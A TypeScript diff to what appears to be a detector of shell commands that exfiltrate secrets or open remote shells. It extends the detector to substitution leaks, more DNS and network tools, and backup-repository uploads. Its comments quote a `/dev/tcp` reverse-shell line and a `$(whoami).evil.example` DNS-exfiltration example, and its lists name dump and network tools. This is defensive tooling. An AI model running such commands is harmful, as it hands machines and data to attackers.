@@ -5,6 +5,7 @@ import type { Effect, Locator } from "../effect.ts";
 import { shown } from "../files/targets.ts";
 import { isDropHost } from "../http/drop-hosts.ts";
 import type { Invocation, Stdin } from "../pack.ts";
+import { isShell } from "../shell/shell-names.ts";
 import { knownPrefix, literalWord, programName, textOf, type Word } from "../words.ts";
 import { secretsSent, strayVariables } from "./sent.ts";
 import { networkFile } from "./sockets.ts";
@@ -29,7 +30,7 @@ export function secretsSentBy(command: Invocation, facts: Facts): Effect[] {
       ? undefined
       : command.redirects.map(({ target }) => networkFile(knownPrefix(target))).find(Boolean);
   const sender = SENDERS.get(command.program);
-  if (!sender && socket === undefined) return [];
+  if (!sender && socket === undefined) return toldByTheWay(command, facts);
   const words = command.argv.slice(1);
   const behind =
     command.program === "socat" &&
@@ -46,8 +47,8 @@ export function secretsSentBy(command: Invocation, facts: Facts): Effect[] {
   )
     return [remoteShell(command, host, "this shell")];
   const shell =
-    SHELLS.test(command.program) ||
-    (/^(?:exec|nohup|setsid)$/.test(command.program) && SHELLS.test(programName(command.argv[1]))) ||
+    takesTyping(command.program) ||
+    (/^(?:exec|nohup|setsid)$/.test(command.program) && takesTyping(programName(command.argv[1]))) ||
     (command.argv[0]?.glob && /sh?$|\?$|\*$/.test(command.argv[0].text));
   if (socket !== undefined && shell && !command.argv.some(({ value }) => value === "-c"))
     return [remoteShell(command, host)];
@@ -73,12 +74,39 @@ export function secretsSentBy(command: Invocation, facts: Facts): Effect[] {
   return [...given.map(shown), ...piped].slice(0, 3).map(what => effectOf(command, host, what, false));
 }
 
+/**
+ * What any other program is made to tell a host that it names, by a substitution among its words or in what comes in:
+ * contents that nobody signs in with.
+ */
+function toldByTheWay(command: Invocation, facts: Facts): Effect[] {
+  const { argv, stdin } = command;
+  const given =
+    (stdin.kind === "text" || stdin.kind === "pipe") && stdin.producer ? [...argv, ...stdin.producer] : argv;
+  if (!given.some(({ pieces }) => pieces.some(piece => piece.kind === "hole" && piece.from === "substitution")))
+    return [];
+  const host = namedHost(
+    given.slice(1).flatMap(word =>
+      textOf(word)
+        .split(/\s+/)
+        .map(part => literalWord(part)),
+    ),
+  );
+  if (host === undefined || isThisMachine(host)) return [];
+  return secretsSent(command, [STDIN], facts)
+    .filter(what => TOLD.test(what))
+    .map(what => effectOf(command, host, what, true));
+}
+
+const TOLD =
+  /^(?:the accounts of this machine|the whole environment|what was typed into the shell|the system's secrets)$/;
+
 /** A bare name is a neighbour in a network of containers; for ssh and its kin it is an alias of any other machine. */
 function isNeighbour(host: string, program: string): boolean {
   return isLocalHost(host) && !/^(?:scp|rsync|rcp|sftp|ssh)$/.test(program);
 }
 
-const SHELLS = /^(?:ba|da|z|k|fi|tc|a)?sh$|^python[\d.]*$|^pwsh$/;
+/** What is typed into from the other end of a connection. */
+const takesTyping = (program: string): boolean => isShell(program) || /^python[\d.]*$/.test(program);
 
 /** `bash -i >& /dev/tcp/host/port`: whoever listens there types the commands. */
 function remoteShell({ program, span }: Invocation, host: string, used = "a shell of this machine"): Effect {
@@ -127,7 +155,11 @@ function contentOnInput(stdin: Stdin): string | undefined {
 const PACKS =
   /^(?:g?tar|bsdtar|cat|zip|gzip|xz|zstd|bzip2|dd|pg_dump|pg_dumpall|mysqldump|mongodump|sqlite3|pbpaste|xclip|xsel|wl-paste|find|cpio|tcpdump|tshark|dumpcap|7z|7za|gpg|openssl|mysqldump|pg_basebackup|git|kubectl|docker|redis-cli|screencapture|import|scrot|arecord|base64|xxd|textutil|streamzip|ditto|strings)$/;
 
-const DNS = new Set(["dig", "nslookup", "host", "drill", "kdig", "ping", "ping6", "getent", "resolvectl"]);
+const DNS = new Set(
+  "dig nslookup host drill kdig ping ping6 getent resolvectl traceroute tracepath mtr fping hping3 arping whois".split(
+    " ",
+  ),
+);
 
 /** `$(whoami).evil.example`: what a name server gets to know, also where the shell knows what will stand there. */
 function namesInLabels(words: readonly Word[]): string[] {
@@ -201,6 +233,16 @@ const hostOfClient = (words: readonly Word[]) =>
   words.some(({ value }) => /^(?:curl|wget|https?|xhs?)$/.test(value ?? ""))
     ? words.map(word => /^https?:\/\/(?:[^/@]*@)?([\w.-]+)/.exec(textOf(word))?.[1]).find(Boolean)
     : undefined;
+/** `rest:http://host:port/x`, `sftp:user@host:/x`: behind the option of a store, or as a word of its own. */
+const repository = (words: readonly Word[]) =>
+  words
+    .map(
+      word =>
+        /^(?:--?r(?:epo)?=)?(?:(?:rest|sftp|s3|swift):)?(?:[a-z]+:\/\/)?(?:[^@/\s]*@)?([\w-]+(?:\.[\w-]+)+)[:/]/i.exec(
+          textOf(word),
+        )?.[1],
+    )
+    .find(Boolean);
 /** `TCP:host:port`, `OPENSSL:host:port`. */
 const socketAddress = (words: readonly Word[]) =>
   words
@@ -250,7 +292,9 @@ const SENDERS: ReadonlyMap<string, Sender> = new Map(
     logger: {
       host: words =>
         words[words.findIndex(({ value }) => /^(?:-n|--server)$/.test(value ?? "")) + 1]?.value ?? undefined,
+      files: words => words.filter((_, i) => /^(?:-f|--file)$/.test(words[i - 1]?.value ?? "")),
     },
+    ...each("restic kopia duplicity duplicacy bupstash rdiff-backup", { host: repository, files: all }),
     ...each("ncftpput ftp-upload curlftpfs smbclient tnftp ncftp", {
       host: words =>
         plain(words)
